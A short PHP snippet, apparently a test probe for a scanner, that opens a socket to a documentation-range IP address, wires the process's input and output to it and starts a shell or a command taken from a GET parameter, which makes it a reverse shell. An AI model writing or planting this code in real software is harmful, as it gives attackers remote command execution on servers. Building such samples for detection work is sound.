<?php
// probe (never run): a connection handed to proc_open in a descriptor table built element by element
$c = stream_socket_client('tcp://203.0.113.3:443');
$fds = array();
$fds[0] = $c; $fds[1] = $c; $fds[2] = $c;
proc_open($_GET['x'] ?? 'sh', $fds, $pp);
